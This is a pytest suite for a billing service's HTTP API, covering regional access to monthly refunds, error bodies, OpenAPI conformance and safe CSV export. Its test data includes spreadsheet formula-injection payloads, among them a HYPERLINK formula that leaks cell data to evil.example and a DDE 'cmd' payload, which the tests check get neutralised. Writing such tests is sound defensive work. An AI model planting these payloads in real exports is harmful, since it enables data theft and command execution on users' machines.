"""Billing's HTTP API on a real loopback socket over its store on SQLite and PostgreSQL:
what a region may learn of a month, the one error body, CSV a spreadsheet opens safely,
and the OpenAPI document checked with schemathesis with a region's and ngc's token."""

from __future__ import annotations

import csv
import io
import json
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from typing import Any

import pytest
import schemathesis

from services.billing.accrual import accrual_of
from services.billing.api import OPENAPI_PATH, document, install
from services.billing.store import BillingStore
from shared.auth import Tokens, token_hash
from shared.events import Region
from shared.http import make_web
from tests.conformance import AS_DOCUMENTED, call_and_validate, generated
from tests.support import assert_error_body, raw_http, serve_app
from tests.unit.billing.billing_factories import indexed

TOKENS = {"ngc": "billing-api-ngc", "syddanmark": "billing-api-south", "hovedstaden": "billing-api-capital"}
FEB = datetime(2026, 2, 10, 9, tzinfo=UTC)
HOSTILE_DEPARTMENTS = [
    "Genetik\r\nline,2026-01,forged",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTab",
    "\rCR",
]


@dataclass
class Api:
    base: str

    def get(self, path: str, holder: str | None = "ngc") -> tuple[int, str, str]:
        request = urllib.request.Request(self.base + path)
        if holder is not None:
            request.add_header("Authorization", f"Bearer {TOKENS[holder]}")
        try:
            with urllib.request.urlopen(request, timeout=10) as response:
                return response.status, response.headers["Content-Type"], response.read().decode()
        except urllib.error.HTTPError as exc:
            return exc.code, exc.headers["Content-Type"], exc.read().decode()


@pytest.fixture
def api(store: BillingStore) -> Iterator[Api]:
    """January 2026 closed (departments a spreadsheet would run among them), February open."""
    store.add_to_grant(1_000_000_00, by="finance", at=FEB)
    for n, department in enumerate(["OUH", *HOSTILE_DEPARTMENTS]):
        accrual = accrual_of(indexed(f"S-{n}", region=Region.SYDDANMARK), f"e{n}")
        assert accrual is not None
        # Put in the store directly: the events refuse control characters in a department
        # before billing sees one, and the CSV must be safe even for a row that got past them.
        store.accrue(replace(accrual, department=department))
    store.close("2026-01", standard_rate_dkk=300, now=FEB, by="finance")
    for n in range(3):
        late = accrual_of(
            indexed(
                f"OPEN-{n}", region=Region.HOVEDSTADEN, received_at=datetime(2026, 2, 5, tzinfo=UTC), ge="7"
            ),
            f"o{n}",
        )
        assert late is not None
        store.accrue(late)
    app = make_web([])
    install(app, store, Tokens({token_hash(t): holder for holder, t in TOKENS.items()}))
    with serve_app(app) as base:
        yield Api(base)


def test_a_region_asking_for_an_open_month_learns_nothing_of_it(api: Api) -> None:
    for region in ("syddanmark", "hovedstaden"):
        status, _, open_month = api.get("/v1/refunds/2026-02", holder=region)
        assert status == 404
        doc = assert_error_body(open_month, 404)
        _, _, empty_month = api.get("/v1/refunds/2031-02", holder=region)
        assert open_month.replace("2026-02", "M") == empty_month.replace("2031-02", "M")
        assert "genome" not in doc["error"] and "21" not in open_month
    _, _, national = api.get("/v1/refunds/2026-02", holder="ngc")
    assert "21,00 genome equivalents accrued so far" in national


def test_every_csv_cell_a_spreadsheet_would_run_is_quoted(api: Api) -> None:
    for holder in ("ngc", "syddanmark"):
        status, content_type, text = api.get("/v1/refunds/2026-01?format=csv", holder=holder)
        assert status == 200 and content_type.startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        departments = {r["department"] for r in rows if r["level"] == "line"}
        assert departments == {"OUH", *(("'" if d[0] in "=+-@\t\r" else "") + d for d in HOSTILE_DEPARTMENTS)}
        assert {r["level"] for r in rows} <= {"line", "region", "total"}
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (holder, row)


def test_bad_requests_are_the_one_body_naming_the_field(api: Api) -> None:
    for path, status, field in (
        ("/v1/refunds/2026-1", 400, "month"),
        ("/v1/refunds/0703851234", 400, "month"),
        ("/v1/refunds/2026-01?format=pdf", 400, "format"),
        ("/v1/refunds/2026-01?format=csv&format=json", 400, "format"),
        ("/v1/refunds/2026-01?fromat=csv", 400, "fromat"),
        ("/v1/refunds?month=2026-01", 400, "month"),
    ):
        got, content_type, body = api.get(path)
        assert got == status and content_type.startswith("application/json"), (path, got, body)
        doc = assert_error_body(body, status)
        assert [p["field"] for p in doc["problems"]] == [field], path
        assert "0703851234" not in body
    for path, status in (("/v1/refunds/2026-01", 401), ("/v2/x", 401)):
        got, _, body = api.get(path, holder=None)
        assert got == status
        assert_error_body(body, status)
    port = int(api.base.rsplit(":", 1)[1])
    status, _, raw = raw_http(
        port,
        f"GET /v1/refunds HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {TOKENS['ngc']}{'x' * 9000}\r\n\r\n".encode(),
    )
    assert status == 400 and TOKENS["ngc"].encode() not in raw
    assert_error_body(raw, 400)


schema = schemathesis.openapi.from_dict(document())


@pytest.mark.parametrize("holder", ["ngc", "syddanmark"])
@schema.parametrize()
@generated(max_examples=15)
def test_billing_conforms_to_its_openapi_document(case: Any, holder: str, api: Api) -> None:
    call_and_validate(case, api.base, TOKENS[holder], checks=AS_DOCUMENTED)


def test_the_served_document_is_the_one_tested(api: Api) -> None:
    status, _, served = api.get(OPENAPI_PATH, holder=None)
    assert status == 200 and json.loads(served) == json.loads(json.dumps(document()))
